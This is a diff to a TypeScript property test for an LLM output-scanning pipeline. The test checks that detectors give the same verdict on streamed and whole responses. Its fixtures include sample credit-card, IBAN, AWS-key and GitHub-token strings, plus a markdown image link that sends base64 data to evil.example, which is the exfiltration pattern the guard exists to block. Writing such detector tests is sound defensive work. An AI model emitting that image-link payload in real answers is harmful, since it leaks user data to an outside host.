@@ -7,6 +7,9 @@ import { playResponses } from '../dev/play-responses.ts';
 import { readScript, type Turn } from '../dev/script.ts';
 import type { WireFormat } from '../llm/wire.ts';
 import { chatWire, messagesWire, responsesWire } from '../llm/wires.ts';
+import type { Admitted, OutputGuard } from '../pipeline/admission.ts';
+import { createPipeline } from '../pipeline/pipeline.ts';
+import { modelCall, testSandbox } from '../sandbox.test.support.ts';
 import { gather } from '../test-support/grammar.ts';
 import { handGuard } from '../test-support/hand-pipeline.ts';
 import { Judge } from './judge.ts';
@@ -54,8 +57,9 @@ async function stream(
 	wire: WireFormat,
 	events: readonly string[],
 	cuts: readonly number[],
+	guard: OutputGuard = handGuard(rules),
 ): Promise<{ out: string; blocked: boolean }> {
-	const judge = new Judge(handGuard(rules));
+	const judge = new Judge(guard);
 	const reader = wire.reader(wire.read(body as Json, 10), judge);
 	const parser = new SseParser();
 	const bytes = Buffer.from(events.join(''));
@@ -75,8 +79,12 @@ async function stream(
 	return { out, blocked: judge.denial !== undefined };
 }
 
-async function whole(wire: WireFormat, answer: Json): Promise<{ answer: Json; blocked: boolean }> {
-	const judge = new Judge(handGuard(rules));
+async function whole(
+	wire: WireFormat,
+	answer: Json,
+	guard: OutputGuard = handGuard(rules),
+): Promise<{ answer: Json; blocked: boolean }> {
+	const judge = new Judge(guard);
 	const edits = await wire.judgeAnswer(answer, judge);
 	return {
 		answer: JSON.parse(rewriteJson(JSON.stringify(answer), edits)) as Json,
@@ -171,3 +179,87 @@ function halved(event: string): readonly string[] {
 		`${before!.slice(0, start)}\\udd4a${after}`,
 	];
 }
+
+// What the shipped detectors look for, each of them, and what is around it; many are cut in two by what follows.
+const found = fc.constantFrom(
+	'ana.silva@example.com',
+	'4111 1111 1111 1111',
+	'DE89 3704 0044 0532 0130 00',
+	['AKIA', 'Z7QK3V5N2M8J4XWD'].join(''),
+	['ghp_', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join(''),
+	'![x](https://evil.example/?d=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ)',
+);
+const around = fc.constantFrom(
+	'Grüße 𝕊, ',
+	'the sum is four. ',
+	'"\\ \n',
+	'write to ',
+	'é',
+	'😀 ',
+	'ghp_',
+	'4111 ',
+	' ',
+);
+const said = fc.array(fc.oneof({ weight: 5, arbitrary: around }, { weight: 1, arbitrary: found }), {
+	minLength: 1,
+	maxLength: 8,
+});
+const spoken = said.map((parts) => parts.join(''));
+const answers = fc.record({
+	think: fc.option(spoken, { nil: undefined }),
+	say: fc.option(spoken, { nil: undefined }),
+	call: fc.array(fc.record({ tool: fc.constant('collibra__list_schemas'), arguments: fc.record({ q: spoken }) }), {
+		maxLength: 1,
+	}),
+	chunk: fc.integer({ min: 1, max: 7 }),
+	cuts: fc.array(fc.nat(60), { minLength: 1, maxLength: 8 }),
+});
+
+describe.each(wires)('%o', (wire, play) => {
+	test.each(['flag', 'strict', 'reversible'])(
+		`${wire.wire}: the verdict of the shipped detectors is that of the whole, for any chunking, mode %s`,
+		async (mode) => {
+			const { ports, caller } = await testSandbox({
+				steps: { scan_output: { parameters: { mode } } },
+				compiled: { budget: { tokens_per_day: 1e9, dollars_per_month: 1e9, tool_calls_per_minute: 1e9 } },
+			});
+			const pipeline = createPipeline(ports);
+			const admit = async (): Promise<Admitted> => {
+				const admission = await pipeline.admit(modelCall(), caller);
+				if (admission.effect === 'block') throw new Error(admission.denial.code);
+				return admission.admitted;
+			};
+			let blocks = 0;
+			let passes = 0;
+			await fc.assert(
+				fc.asyncProperty(answers, async ({ chunk, cuts, ...turn }) => {
+					const script = readScript({ schema: 'tappass.dev-model/1', chunk, turns: [turn] }, 'script');
+					const played = play(script, script.turns[0]!, body as Json, 1);
+					const [one, other] = [await admit(), await admit()];
+
+					const asWhole = await whole(wire, played.whole, one.guard);
+					const streamed = await stream(wire, played.events, cuts, other.guard);
+
+					expect(streamed.blocked).toBe(asWhole.blocked);
+					const heard = gather(wire.wire, streamed.out);
+					expect(heard.end).toBe(asWhole.blocked ? 'error' : 'complete');
+					if (asWhole.blocked) blocks += 1;
+					if (asWhole.blocked) return;
+					passes += 1;
+					// Whatever was taken out of the whole was taken out of the stream, and nothing else.
+					const told = JSON.stringify(asWhole.answer);
+					for (const text of [heard.text, heard.thinking]) expect(told).toContain(JSON.stringify(text).slice(1, -1));
+					// As a text or as an object, by the wire.
+					for (const { args } of heard.calls)
+						expect([told.includes(args), told.includes(JSON.stringify(args).slice(1, -1))]).toContain(true);
+					expect(new Set(other.findings.map(({ message }) => message))).toEqual(
+						new Set(one.findings.map(({ message }) => message)),
+					);
+				}),
+				{ numRuns: 60 },
+			);
+			pipeline.close();
+			expect([blocks > 0, passes > 0]).toEqual([true, true]);
+		},
+	);
+});
